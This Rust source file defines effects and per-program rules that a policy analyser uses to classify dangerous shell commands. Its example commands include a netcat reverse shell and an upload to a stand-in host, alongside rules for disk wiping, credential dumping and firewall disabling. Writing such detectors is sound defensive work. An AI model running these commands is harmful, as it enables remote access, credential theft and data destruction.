//! What commands do that a policy may name as a whole: effects, and the commands that have them.
//!
//! Each effect is a set of rules in the language of policies, by the program that they are about, so that a command is
//! only held against those of its own program. A line is an effect and a rule; behind `!` it is an exception: what meets
//! one, and has no word that may take it back, has not that effect by a rule. An exception without a `*` at its end is
//! for a command with no other option. What the analyser finds for itself, such as a folder that is removed outside the
//! project, needs no rule here.

macro_rules! effects {
    ($( $name:ident = $id:literal: $does:literal, instead $instead:literal, as in $example:literal; )+) => {
        /// Something that a command does.
        #[derive(Clone, Copy, Debug, Eq, Hash, Ord, PartialEq, PartialOrd)]
        pub enum CommandEffect {
            $( #[doc = $does] $name ),+
        }

        impl CommandEffect {
            /// Every effect, in the order of their names.
            pub const ALL: &'static [Self] = &[$(Self::$name),+];

            /// Its name in policies.
            #[must_use]
            pub fn id(self) -> &'static str {
                match self { $(Self::$name => $id),+ }
            }

            /// What a command that has it does: the rest of a sentence that begins with the command.
            #[must_use]
            pub fn does(self) -> &'static str {
                match self { $(Self::$name => $does),+ }
            }

            /// One thing to do instead.
            #[must_use]
            pub fn instead(self) -> &'static str {
                match self { $(Self::$name => $instead),+ }
            }

            /// A command that has it.
            #[must_use]
            pub fn example(self) -> &'static str {
                match self { $(Self::$name => $example),+ }
            }
        }
    };
}

effects! {
    ActsAsRoot = "acts-as-root":
        "acts with the rights of another user, mostly root",
        instead "run it without, or have a person run it", as in "sudo apt-get install jq";
    ChangesCloud = "changes-cloud":
        "changes or removes what runs in a cloud or a cluster",
        instead "look first: `terraform plan`, `kubectl diff`, `--dry-run`", as in "terraform apply";
    ChangesPermissions = "changes-permissions":
        "opens many files to everybody, or gives a program rights that its caller has not",
        instead "change the one file that needs it", as in "chmod -R 777 .";
    DeletesEverything = "deletes-everything":
        "removes the system, a home, or the whole project",
        instead "name the folder that you mean", as in "rm -rf /";
    DeletesOutsideTree = "deletes-outside-tree":
        "removes a folder outside the project",
        instead "remove what is in the project, and leave the rest to a person", as in "rm -rf ../other";
    DeletesRefs = "deletes-refs":
        "removes a branch, a tag or a worktree with what only it holds",
        instead "leave the branch, or have a person remove it", as in "git branch -D topic";
    DisablesGuard = "disables-guard":
        "switches off what protects this machine or this repository",
        instead "leave it on, and say what it is in the way of", as in "setenforce 0";
    DiscardsWork = "discards-work":
        "discards changes that are not committed",
        instead "`git stash`, or commit them first", as in "git reset --hard";
    DownloadsCode = "downloads-code":
        "fetches code from a place of no registry, and runs or installs it",
        instead "download it, read it, and run it then", as in "pip install git+https://example.com/x";
    EditsStartup = "edits-startup":
        "makes something start by itself, at a time, at log-in or with the machine",
        instead "start it by hand, or have a person set it up", as in "crontab jobs";
    EscapesContainer = "escapes-container":
        "reaches out of a container into the machine",
        instead "mount only the project, without `--privileged`", as in "docker run --privileged x";
    ExhaustsMachine = "exhausts-machine":
        "starts processes without end",
        instead "start a number of them, and wait for them", as in "while true; do sleep 1000 & done";
    OpensShell = "opens-shell":
        "gives a shell on this machine to the network",
        instead "leave this to a person", as in "nc -e /bin/sh example.com 4444";
    Publishes = "publishes":
        "publishes something that stays published",
        instead "build it and leave publishing to a person or to CI", as in "npm publish";
    ReadsCredentials = "reads-credentials":
        "shows or copies credentials",
        instead "use the tool that holds them, without showing them", as in "gh auth token";
    RewritesHistory = "rewrites-history":
        "rewrites history, or removes what git keeps to go back to",
        instead "add a commit that takes the change back: `git revert`", as in "git filter-branch --all";
    SendsFiles = "sends-files":
        "sends files or the output of commands to another machine",
        instead "leave sending to a person, or name the host in the policy", as in "curl --upload-file x example.com";
    StopsServices = "stops-services":
        "stops services, other people's processes, or the machine",
        instead "stop the one process that you started", as in "systemctl stop nginx";
    WritesDevice = "writes-device":
        "writes to a disk past its files, or makes its contents unreadable",
        instead "work on an image file, or leave this to a person", as in "dd of=/dev/sda";
}

macro_rules! programs {
    ($( $($name:literal)|+ => $rules:literal; )+) => {
        /// Every program that some rule is about.
        pub const PROGRAMS: &[&str] = &[$($($name),+),+];

        /// The rules that are about a program, a line each; empty where there are none.
        fn lines(program: &str) -> &'static str {
            match program { $( $($name)|+ => $rules, )+ _ => "" }
        }
    };
}

/// A rule of one effect.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub struct EffectRule {
    /// The name of the effect.
    pub effect: &'static str,
    /// Whether what meets it has not the effect.
    pub is_exception: bool,
    /// A rule of the language of policies.
    pub pattern: &'static str,
}

/// Programs whose names are also common words of other programs' commands (`khal at …`): behind a program that is not
/// known they say nothing.
#[must_use]
pub fn is_common_word(program: &str) -> bool {
    matches!(
        program,
        "at" | "batch"
            | "cipher"
            | "fly"
            | "format"
            | "history"
            | "init"
            | "kill"
            | "mail"
            | "net"
            | "op"
            | "pass"
            | "passwd"
            | "reg"
            | "security"
            | "service"
            | "tar"
    )
}

/// Whether some rule is about a program.
#[must_use]
pub fn is_about(program: &str) -> bool {
    !lines(program).is_empty()
}

/// The rules that are about a program, in their order.
pub fn rules(program: &str) -> impl Iterator<Item = EffectRule> {
    lines(program).lines().filter_map(|line| {
        let (effect, pattern) = line.trim().split_once(' ')?;
        let (is_exception, pattern) =
            pattern.strip_prefix("! ").map_or((false, pattern), |rest| (true, rest));
        Some(EffectRule { effect, is_exception, pattern })
    })
}

programs! {
    "sudo" => "acts-as-root sudo
        acts-as-root sudo *
        acts-as-root ! sudo -l*
        acts-as-root ! sudo -k
        acts-as-root ! sudo --version";
    "doas" => "acts-as-root doas *";
    "su" => "acts-as-root su
        acts-as-root su *";
    "pkexec" => "acts-as-root pkexec *";
    "runas" => "acts-as-root runas *";

    "git" => "discards-work git reset --hard*
        discards-work git reset --merge*
        discards-work git checkout --force*
        discards-work git checkout -f*
        discards-work git switch --force*
        discards-work git switch -f*
        discards-work git switch --discard-changes*
        discards-work git clean --force*
        discards-work git clean -f*
        discards-work ! git clean --dry-run*
        discards-work ! git clean -n*
        rewrites-history ! git prune --dry-run*
        rewrites-history ! git reflog expire --dry-run*
        discards-work git checkout-index --force*
        discards-work git checkout-index -f*
        discards-work git read-tree --reset*
        discards-work git stash drop*
        discards-work git stash clear
        discards-work git rebase --abort
        discards-work git merge --abort
        discards-work git am --abort
        discards-work git cherry-pick --abort
        discards-work git revert --abort
        discards-work git rm -rf*
        discards-work git submodule deinit --force*
        discards-work git worktree remove --force*
        deletes-refs git branch -D*
        deletes-refs git branch --delete --force*
        deletes-refs git tag -d*
        deletes-refs git tag --delete*
        deletes-refs git push --delete*
        deletes-refs git push -d*
        deletes-refs git push * :*
        deletes-refs git push --prune*
        deletes-refs git push --mirror*
        deletes-refs git remote prune*
        deletes-refs git update-ref -d*
        rewrites-history git filter-branch*
        rewrites-history git filter-repo*
        rewrites-history git reflog expire*
        rewrites-history git reflog delete*
        rewrites-history git gc --prune*
        rewrites-history git prune*
        rewrites-history git replace*
        rewrites-history git fast-import*
        rewrites-history git push --force
        rewrites-history git push --force *
        rewrites-history git push -f*
        rewrites-history git push * +*
        disables-guard git config core.hooksPath*
        disables-guard git config --global core.hooksPath*
        disables-guard git commit --no-verify*
        disables-guard git push --no-verify*
        disables-guard git config http.sslVerify false
        disables-guard git config --global http.sslVerify false
        reads-credentials git credential fill*
        reads-credentials git credential-store get*
        sends-files git send-email*";
    "gh" => "deletes-refs gh repo delete*
        deletes-refs gh release delete*
        changes-cloud gh secret set*
        changes-cloud gh secret delete*
        changes-cloud gh workflow disable*
        reads-credentials gh auth token*
        reads-credentials gh auth status --show-token*
        publishes gh release create*
        publishes gh repo edit --visibility=public*";
    "glab" => "deletes-refs glab repo delete*
        publishes glab release create*
        reads-credentials glab auth status --show-token*";

    "rm" => "deletes-everything rm --no-preserve-root*
        discards-work rm -r .git*
        discards-work rm -f .git/*
        discards-work rm .git/*";
    "unlink" => "discards-work unlink .git/*";
    "shred" => "writes-device shred /dev/*
        writes-device shred * /dev/*
        discards-work shred *";
    "srm" => "writes-device srm *";
    "dd" => "writes-device dd of=/dev/*
        writes-device ! dd of=/dev/null
        writes-device ! dd of=/dev/null *
        writes-device ! dd of=/dev/stdout
        writes-device ! dd of=/dev/stdout *";
    "mkfs" => "writes-device mkfs /dev/*
        writes-device mkfs * /dev/*";
    "mkfs.ext2" => "writes-device mkfs.ext2 /dev/*";
    "mkfs.ext3" => "writes-device mkfs.ext3 /dev/*";
    "mkfs.ext4" => "writes-device mkfs.ext4 /dev/*";
    "mkfs.xfs" => "writes-device mkfs.xfs /dev/*";
    "mkfs.btrfs" => "writes-device mkfs.btrfs /dev/*";
    "mkfs.vfat" => "writes-device mkfs.vfat /dev/*";
    "mkfs.fat" => "writes-device mkfs.fat /dev/*";
    "mkfs.ntfs" => "writes-device mkfs.ntfs /dev/*";
    "mkfs.f2fs" => "writes-device mkfs.f2fs /dev/*";
    "wipefs" => "writes-device wipefs *";
    "blkdiscard" => "writes-device blkdiscard *";
    "fdisk" => "writes-device fdisk *
        writes-device ! fdisk -l*";
    "sfdisk" => "writes-device sfdisk *
        writes-device ! sfdisk -h
        writes-device ! sfdisk --help";
    "cfdisk" => "writes-device cfdisk *";
    "gdisk" => "writes-device gdisk *
        writes-device ! gdisk -l*";
    "cgdisk" => "writes-device cgdisk *";
    "parted" => "writes-device parted * /dev/*
        writes-device parted /dev/*
        writes-device ! parted -l";
    "sgdisk" => "writes-device sgdisk *";
    "mkswap" => "writes-device mkswap *";
    "lvremove" => "writes-device lvremove
        writes-device lvremove *
        writes-device ! lvremove --help
        writes-device ! lvremove --longhelp";
    "vgremove" => "writes-device vgremove
        writes-device vgremove *";
    "pvremove" => "writes-device pvremove
        writes-device pvremove *";
    "pvcreate" => "writes-device pvcreate
        writes-device pvcreate *";
    "zpool" => "writes-device zpool destroy*
        writes-device zpool create*
        writes-device zpool labelclear*";
    "zfs" => "writes-device zfs destroy*
        writes-device zfs rollback*";
    "btrfs" => "writes-device btrfs subvolume delete*";
    "mdadm" => "writes-device mdadm --zero-superblock*
        writes-device mdadm --create*";
    "cryptsetup" => "writes-device cryptsetup luksFormat*
        writes-device cryptsetup erase*
        writes-device cryptsetup luksErase*
        writes-device cryptsetup luksKillSlot*
        writes-device cryptsetup reencrypt*";
    "diskutil" => "writes-device diskutil erase*
        writes-device diskutil partitionDisk*
        writes-device diskutil zeroDisk*
        writes-device diskutil secureErase*
        writes-device diskutil apfs delete*";
    "hdparm" => "writes-device hdparm --security-erase*
        writes-device hdparm --write-sector*";
    "nvme" => "writes-device nvme format*
        writes-device nvme sanitize*";
    "rsync" => "deletes-everything rsync --delete* /";
    "mv" => "deletes-outside-tree mv /var/lib/* *
        deletes-outside-tree mv /etc/* *
        deletes-outside-tree mv /usr/* *
        deletes-outside-tree mv /boot/* *
        deletes-outside-tree mv ~ *";

    "chmod" => "changes-permissions chmod -R 777*
        changes-permissions chmod -R a+rwx*
        changes-permissions chmod -R a=rwx*
        changes-permissions chmod -R ugo=rwx*
        changes-permissions chmod -R a+w*
        changes-permissions chmod -R o+w*
        changes-permissions chmod -R ugo+rwx*
        changes-permissions chmod -R 0777*
        changes-permissions chmod -R 666*
        changes-permissions chmod -R * /
        changes-permissions chmod -R * /etc*
        changes-permissions chmod -R * /usr*
        changes-permissions chmod 777 /*
        changes-permissions chmod u+s*
        changes-permissions chmod +s*
        changes-permissions chmod g+s*
        changes-permissions chmod 4755*
        changes-permissions chmod 4777*
        changes-permissions chmod 6755*
        changes-permissions chmod -R 000*";
    "chown" => "changes-permissions chown -R * /
        changes-permissions chown -R * /etc*
        changes-permissions chown -R * /usr*
        changes-permissions chown -R * /var
        changes-permissions chown -R * /home";
    "setcap" => "changes-permissions setcap *";
    "setfacl" => "changes-permissions setfacl -R*
        changes-permissions setfacl -b*";
    "chattr" => "changes-permissions chattr *";
    "visudo" => "changes-permissions visudo
        changes-permissions visudo *";
    "usermod" => "changes-permissions usermod -aG*
        changes-permissions usermod -G*
        changes-permissions usermod -u*";
    "useradd" => "changes-permissions useradd *";
    "adduser" => "changes-permissions adduser *";
    "passwd" => "changes-permissions passwd
        changes-permissions passwd *";
    "chpasswd" => "changes-permissions chpasswd
        changes-permissions chpasswd *";

    "shutdown" => "stops-services shutdown
        stops-services shutdown *";
    "reboot" => "stops-services reboot
        stops-services reboot *";
    "halt" => "stops-services halt
        stops-services halt *";
    "poweroff" => "stops-services poweroff
        stops-services poweroff *";
    "init" => "stops-services init 0
        stops-services init 6";
    "telinit" => "stops-services telinit *";
    "systemctl" => "stops-services systemctl stop*
        stops-services systemctl disable*
        stops-services systemctl mask*
        stops-services systemctl kill*
        stops-services systemctl isolate*
        stops-services systemctl poweroff*
        stops-services systemctl reboot*
        stops-services systemctl halt*
        edits-startup systemctl enable*
        edits-startup systemctl --user enable*
        edits-startup systemctl link*
        edits-startup systemctl edit*";
    "service" => "stops-services service * stop";
    "launchctl" => "edits-startup launchctl load*
        edits-startup launchctl bootstrap*
        edits-startup launchctl submit*
        stops-services launchctl unload*
        stops-services launchctl bootout*";
    "kill" => "stops-services kill -9 -1
        stops-services kill -KILL -1
        stops-services kill -s * -1
        stops-services kill -1
        stops-services kill -9 1
        stops-services kill 1";
    "killall" => "stops-services killall -9*
        stops-services killall -u*";
    "pkill" => "stops-services pkill -9 -u*
        stops-services pkill -u root*";
    "killall5" => "stops-services killall5
        stops-services killall5 *";
    "crontab" => "edits-startup crontab
        edits-startup crontab *
        edits-startup ! crontab -l";
    "at" => "edits-startup at *
        edits-startup ! at -l";
    "batch" => "edits-startup batch
        edits-startup batch *";
    "update-rc.d" => "edits-startup update-rc.d *";
    "chkconfig" => "edits-startup chkconfig * on";
    "schtasks" => "edits-startup schtasks /create*
        edits-startup schtasks /Create*
        edits-startup schtasks -Create*";
    "reg" => "edits-startup reg add *
        reads-credentials reg save *
        writes-device reg delete *";
    "vssadmin" => "writes-device vssadmin delete*";
    "wbadmin" => "writes-device wbadmin delete*";
    "bcdedit" => "writes-device bcdedit *";
    "cipher" => "writes-device cipher /w*";
    "format" => "writes-device format *:*";
    "diskpart" => "writes-device diskpart
        writes-device diskpart *";
    "wmic" => "opens-shell wmic process call*
        writes-device wmic shadowcopy delete*";
    "regsvr32" => "opens-shell regsvr32 *";
    "rundll32" => "opens-shell rundll32 *";
    "mshta" => "opens-shell mshta *";
    "certutil" => "opens-shell certutil *urlcache*";
    "bitsadmin" => "opens-shell bitsadmin *";
    "net" => "changes-permissions net user *
        changes-permissions net localgroup *";
    "netsh" => "disables-guard netsh advfirewall set *";
    "setenforce" => "disables-guard setenforce 0
        disables-guard setenforce Permissive*";
    "ufw" => "disables-guard ufw disable*
        disables-guard ufw reset*";
    "iptables" => "disables-guard iptables -F*
        disables-guard iptables --flush*
        disables-guard iptables -P * ACCEPT
        disables-guard iptables -X*";
    "ip6tables" => "disables-guard ip6tables -F*";
    "nft" => "disables-guard nft flush*";
    "auditctl" => "disables-guard auditctl -D*
        disables-guard auditctl -e 0";
    "csrutil" => "disables-guard csrutil disable*";
    "spctl" => "disables-guard spctl --master-disable*";
    "aa-teardown" => "disables-guard aa-teardown
        disables-guard aa-teardown *";
    "cavra" => "disables-guard cavra uninstall*";
    "history" => "disables-guard history -c*";

    "nc" => "opens-shell nc -e*
        opens-shell nc -c*
        opens-shell nc --exec*
        opens-shell nc --sh-exec*
        sends-files nc *
        sends-files ! nc -z*";
    "ncat" => "opens-shell ncat -e*
        opens-shell ncat -c*
        opens-shell ncat --exec*
        opens-shell ncat --sh-exec*
        sends-files ncat *
        sends-files ! ncat -z*";
    "netcat" => "opens-shell netcat -e*
        opens-shell netcat -c*
        opens-shell netcat --exec*
        opens-shell netcat --sh-exec*
        sends-files netcat *
        sends-files ! netcat -z*";
    "socat" => "opens-shell socat *EXEC:*
        opens-shell socat *exec:*
        opens-shell socat *SYSTEM:*
        sends-files socat *";
    "telnet" => "sends-files telnet *";
    "curl" => "sends-files curl --upload-file=* *
        sends-files curl -T *
        sends-files curl --data-binary=@* *
        sends-files curl --data=@- *
        sends-files curl --form=*@* *
        sends-files curl --form=*<* *
        sends-files curl --data-urlencode=*@* *
        disables-guard curl --insecure*";
    "wget" => "sends-files wget --post-file=* *
        sends-files wget --body-file=* *
        disables-guard wget --no-check-certificate*";
    "sftp" => "sends-files sftp *";
    "ftp" => "sends-files ftp *";
    "rclone" => "sends-files rclone copy*
        sends-files rclone sync*
        sends-files rclone move*";
    "croc" => "sends-files croc send*";
    "tar" => "sends-files tar --file=*:*
        sends-files tar --file=*:* *";
    "mail" => "sends-files mail *";
    "mailx" => "sends-files mailx *";
    "sendmail" => "sends-files sendmail *";
    "mutt" => "sends-files mutt *";

    "docker" => "escapes-container docker run --privileged*
        escapes-container docker run -v /:*
        escapes-container docker run --volume=/:*
        escapes-container docker run --mount=*src=/,* *
        escapes-container docker run --mount=*source=/,* *
        escapes-container docker run --pid=host*
        escapes-container docker run --cap-add=ALL*
        escapes-container docker run --cap-add=SYS_ADMIN*
        escapes-container docker run -v *docker.sock*
        escapes-container docker run --volume=*docker.sock*
        changes-cloud docker system prune*
        changes-cloud docker volume rm*
        changes-cloud docker volume prune*
        changes-cloud docker stack rm*
        changes-cloud docker swarm leave*
        publishes docker push*
        publishes docker image push*
        disables-guard docker run --security-opt=*unconfined*";
    "podman" => "escapes-container podman run --privileged*
        escapes-container podman run -v /:*
        changes-cloud podman system reset*
        changes-cloud podman volume rm*
        publishes podman push*";
    "nsenter" => "escapes-container nsenter *";
    "kubectl" => "changes-cloud kubectl delete*
        changes-cloud kubectl drain*
        changes-cloud kubectl replace --force*
        changes-cloud ! kubectl replace --dry-run=client*
        changes-cloud ! kubectl replace --dry-run=server*
        changes-cloud kubectl scale --replicas=0*
        escapes-container kubectl debug node/*
        reads-credentials kubectl config view --raw*
        reads-credentials kubectl get secret*
        reads-credentials kubectl get secrets*";
    "oc" => "changes-cloud oc delete*
        changes-cloud oc drain*
        changes-cloud oc replace --force*
        changes-cloud oc scale --replicas=0*
        escapes-container oc debug node/*
        reads-credentials oc config view --raw*
        reads-credentials oc get secret*
        reads-credentials oc get secrets*";
    "helm" => "changes-cloud helm uninstall*
        changes-cloud helm rollback*
        publishes helm push*";
    "terraform" => "changes-cloud terraform apply*
        changes-cloud terraform destroy*
        changes-cloud terraform state rm*
        changes-cloud terraform state push*
        changes-cloud terraform import*
        changes-cloud terraform taint*
        changes-cloud terraform force-unlock*
        changes-cloud terraform workspace delete*";
    "tofu" => "changes-cloud tofu apply*
        changes-cloud tofu destroy*
        changes-cloud tofu state rm*";
    "terragrunt" => "changes-cloud terragrunt apply*
        changes-cloud terragrunt destroy*
        changes-cloud terragrunt run-all apply*
        changes-cloud terragrunt run-all destroy*";
    "pulumi" => "changes-cloud pulumi up*
        changes-cloud pulumi destroy*
        changes-cloud pulumi stack rm*";
    "cdk" => "changes-cloud cdk deploy*
        changes-cloud cdk destroy*";
    "aws" => "changes-cloud aws * delete-*
        changes-cloud aws * terminate-*
        changes-cloud aws * remove-*
        changes-cloud aws * put-bucket-policy*
        changes-cloud aws * put-bucket-acl*
        changes-cloud aws * attach-*-policy*
        changes-cloud aws * create-access-key*
        changes-cloud aws s3 rb*
        changes-cloud aws s3 rm*
        changes-cloud ! aws s3 rm --dryrun*
        changes-cloud aws s3 sync --delete*
        reads-credentials aws configure get*
        reads-credentials aws configure export-credentials*
        reads-credentials aws secretsmanager get-secret-value*
        reads-credentials aws ssm get-parameter --with-decryption*
        reads-credentials aws sts get-session-token*
        reads-credentials aws ecr get-login-password*";
    "gcloud" => "changes-cloud gcloud * delete*
        changes-cloud gcloud projects delete*
        changes-cloud gcloud * add-iam-policy-binding*
        reads-credentials gcloud auth print-*
        reads-credentials gcloud secrets versions access*
        reads-credentials gcloud auth application-default print-access-token*";
    "gsutil" => "changes-cloud gsutil rm*
        changes-cloud gsutil rb*";
    "az" => "changes-cloud az * delete*
        changes-cloud az group delete*
        reads-credentials az account get-access-token*
        reads-credentials az keyvault secret show*";
    "vault" => "reads-credentials vault read*
        reads-credentials vault kv get*
        reads-credentials vault token*
        changes-cloud vault delete*";
    "op" => "reads-credentials op read*
        reads-credentials op item get*";
    "pass" => "reads-credentials pass show*";
    "security" => "reads-credentials security find-*-password*
        reads-credentials security dump-keychain*
        reads-credentials security export*
        disables-guard security delete-*";
    "gpg" => "reads-credentials gpg --export-secret-keys*
        reads-credentials gpg --export-secret-subkeys*
        disables-guard gpg --delete-secret-keys*";
    "gpg2" => "reads-credentials gpg2 --export-secret-keys*
        reads-credentials gpg2 --export-secret-subkeys*
        disables-guard gpg2 --delete-secret-keys*";
    "ssh-add" => "reads-credentials ssh-add -L*";
    "secret-tool" => "reads-credentials secret-tool lookup*";
    "dropdb" => "changes-cloud dropdb *";
    "redis-cli" => "changes-cloud redis-cli FLUSHALL*
        changes-cloud redis-cli flushall*
        changes-cloud redis-cli FLUSHDB*
        changes-cloud redis-cli flushdb*";
    "mysqladmin" => "changes-cloud mysqladmin drop*";
    "heroku" => "changes-cloud heroku apps:destroy*
        changes-cloud heroku pg:reset*";
    "fly" => "changes-cloud fly apps destroy*";
    "vercel" => "changes-cloud vercel remove*
        publishes vercel --prod*";
    "firebase" => "publishes firebase deploy*
        changes-cloud firebase firestore:delete*";

    "cargo" => "publishes cargo publish*
        publishes cargo yank*
        publishes ! cargo publish --dry-run*";
    "npm" => "publishes npm publish*
        publishes npm unpublish*
        publishes npm deprecate *
        publishes npm dist-tag*
        publishes ! npm publish --dry-run*
        reads-credentials npm token*";
    "pnpm" => "publishes pnpm publish*";
    "yarn" => "publishes yarn publish*
        publishes yarn npm publish*";
    "bun" => "publishes bun publish*";
    "twine" => "publishes twine upload*";
    "poetry" => "publishes poetry publish*";
    "uv" => "publishes uv publish*";
    "flit" => "publishes flit publish*";
    "hatch" => "publishes hatch publish*";
    "gem" => "publishes gem push*
        publishes gem yank*";
    "mvn" => "publishes mvn deploy*";
    "dotnet" => "publishes dotnet nuget push*";
    "vsce" => "publishes vsce publish*";
    "pip" => "downloads-code pip install git+*
        downloads-code pip install http*";
    "pip3" => "downloads-code pip3 install git+*
        downloads-code pip3 install http*";
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    #[test]
    fn every_line_is_a_rule_of_its_program() {
        let mut names = HashSet::new();
        for program in PROGRAMS {
            assert!(names.insert(program), "{program} is there twice");
            let lines = lines(program).lines().count();
            assert!(lines > 0, "{program}");
            assert_eq!(rules(program).count(), lines, "{program}: a line is no rule");
            for rule in rules(program) {
                let is_known = CommandEffect::ALL.iter().any(|effect| effect.id() == rule.effect);
                assert!(is_known, "`{}` has an effect that is not known", rule.pattern);
                let first = rule.pattern.split(' ').next().unwrap_or_default();
                assert_eq!(first, *program, "`{}` is about another program", rule.pattern);
            }
        }
    }

    #[test]
    fn an_exception_is_of_an_effect_that_the_program_has() {
        for rule in PROGRAMS.iter().flat_map(|program| rules(program)).filter(|rule| rule.is_exception) {
            let program = rule.pattern.split(' ').next().unwrap_or_default();
            let has = rules(program).any(|other| !other.is_exception && other.effect == rule.effect);
            assert!(has, "`{}`", rule.pattern);
        }
    }
}
